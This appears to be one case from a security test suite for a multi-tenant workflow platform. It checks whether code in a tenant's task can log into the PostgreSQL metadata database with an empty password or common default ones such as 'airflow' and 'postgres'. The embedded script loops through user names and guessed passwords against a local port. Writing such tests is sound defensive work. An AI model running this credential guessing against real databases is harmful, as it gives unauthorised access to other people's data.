"""A task logs into the metadata database, with nothing and with names that are often passwords."""

from suite.attack import HELD
from suite.place import Place
from suite.weakened import trusting_postgres

FROM = "tenant code in a task"
AGAINST = "the database"
DEFENCE = "PostgreSQL lets nobody in without a password of its own"
MUST = HELD
NEEDS = ("platform",)
undefended = trusting_postgres
PROGRAM = """
import os, psycopg
for user in ("airflow", "postgres", "aerodrome", "tenant_beta"):
    for password in ("", user, "airflow", "postgres"):
        try:
            address = f"host=127.0.0.1 port={os.environ['PORT']} user={user} password={password} dbname=airflow"
            with psycopg.connect(address, connect_timeout=5) as connection:
                print(user, connection.execute("SELECT count(*) FROM dag").fetchone())
        except psycopg.Error:
            pass
"""


def attack(place: Place) -> str:
    """Return what is got."""
    return place.code.python(PROGRAM, PORT=str(place.live.platform.ports.postgres))
